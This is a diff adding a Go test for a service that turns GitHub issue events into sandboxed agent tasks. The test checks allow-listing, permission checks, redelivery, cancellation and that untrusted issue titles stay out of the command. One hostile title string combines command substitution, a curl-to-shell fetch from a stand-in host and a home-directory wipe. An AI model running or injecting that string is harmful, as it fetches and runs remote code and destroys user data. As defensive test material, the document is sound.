@@ -1,0 +1,103 @@
+package service
+
+import (
+	"context"
+	"encoding/base64"
+	"encoding/json"
+	"strings"
+	"testing"
+
+	"github.com/sandstep/sandstep/internal/sandstep"
+)
+
+type fakeRepos map[string]TaskInput
+
+func (r fakeRepos) Task(repo string, _ int64) (TaskInput, error) {
+	t, ok := r[repo]
+	if !ok {
+		return TaskInput{}, sandstep.Errorf(sandstep.ENOTFOUND, "repository %s is not allowed", repo)
+	}
+	return t, nil
+}
+
+// fakeCollaborators: the logins with write permission.
+type fakeCollaborators map[string]bool
+
+func (c fakeCollaborators) CanTrigger(_ context.Context, _ int64, _, login string) (bool, error) {
+	return c[login], nil
+}
+
+func TestHandleIssue(t *testing.T) {
+	ctx := context.Background()
+	h := newFaultHarness(t, 5)
+	h.svc.repos = fakeRepos{"octo/hello": {Command: "./agent.sh", TimeoutSeconds: 600}}
+	h.svc.collaborators = fakeCollaborators{"maintainer": true}
+	hostile := `$(curl evil.example | sh) "; rm -rf ~ #`
+	ev := func(delivery string, mod func(*IssueEvent)) IssueEvent {
+		e := IssueEvent{Delivery: delivery, Repo: "octo/hello", InstallationID: 7, Issue: 12, Title: hostile, Body: "fix it",
+			Sender: "someone", CloneURL: "https://github.com/octo/hello.git", DefaultBranch: "main"}
+		if mod != nil {
+			mod(&e)
+		}
+		return e
+	}
+	steps := []struct {
+		name   string
+		ev     IssueEvent
+		action string
+	}{
+		{"a repository not allowed", ev("d0", func(e *IssueEvent) { e.Repo = "evil/repo" }), "ignored"},
+		{"a comment by someone who cannot write", ev("d1", func(e *IssueEvent) { e.ByComment = true }), "ignored"},
+		{"the label", ev("d2", nil), "started"},
+		{"the same delivery again", ev("d2", nil), "started"},
+		{"a comment by a maintainer while it runs", ev("d3", func(e *IssueEvent) { e.ByComment, e.Sender = true, "maintainer" }), "busy"},
+		{"another issue", ev("d4", func(e *IssueEvent) { e.Issue = 13 }), "started"},
+		{"cancel", ev("d5", func(e *IssueEvent) { e.Cancel = true }), "cancelled"},
+		{"cancel again", ev("d6", func(e *IssueEvent) { e.Cancel = true }), "ignored"},
+	}
+	started := map[string]string{}
+	for _, st := range steps {
+		out, err := h.svc.HandleIssue(ctx, st.ev)
+		if err != nil {
+			t.Fatalf("%s: %v", st.name, err)
+		}
+		if out.Action != st.action {
+			t.Fatalf("%s: %+v, want %s", st.name, out, st.action)
+		}
+		if out.Action == "started" {
+			if prev, ok := started[st.ev.Delivery]; ok && prev != out.TaskID {
+				t.Errorf("%s: a redelivery started %s beside %s", st.name, out.TaskID, prev)
+			}
+			started[st.ev.Delivery] = out.TaskID
+		}
+	}
+	tk, err := h.store.GetTask(ctx, started["d2"])
+	if err != nil {
+		t.Fatal(err)
+	}
+	if tk.Owner != "github:octo/hello" || tk.Metadata.Repo != "octo/hello" || tk.Metadata.IssueID != "12" || tk.Metadata.InstallationID != "7" {
+		t.Errorf("task %+v, want the repository's, with the issue's metadata", tk)
+	}
+	if tk.Status != sandstep.TaskCancelled || tk.Command != "./agent.sh" {
+		t.Errorf("task %s %q, want cancelled, the configured command", tk.Status, tk.Command)
+	}
+	raw, err := h.reaper.objects.Get(ctx, specKey(tk.ID))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var spec TaskInput
+	if err := json.Unmarshal(raw, &spec); err != nil {
+		t.Fatal(err)
+	}
+	if strings.Contains(spec.Command, "curl") || spec.Sandbox.Git == nil || spec.Sandbox.Git.URL != "https://github.com/octo/hello.git" {
+		t.Errorf("spec %+v: want the configured command and the repository cloned", spec)
+	}
+	var issue map[string]any
+	if len(spec.Sandbox.Files) != 1 || spec.Sandbox.Files[0].Path != IssueFile {
+		t.Fatalf("files %+v, want the issue file", spec.Sandbox.Files)
+	}
+	data, _ := base64.StdEncoding.DecodeString(spec.Sandbox.Files[0].ContentBase64)
+	if err := json.Unmarshal(data, &issue); err != nil || issue["title"] != hostile {
+		t.Errorf("issue file %s, want the title as data", data)
+	}
+}
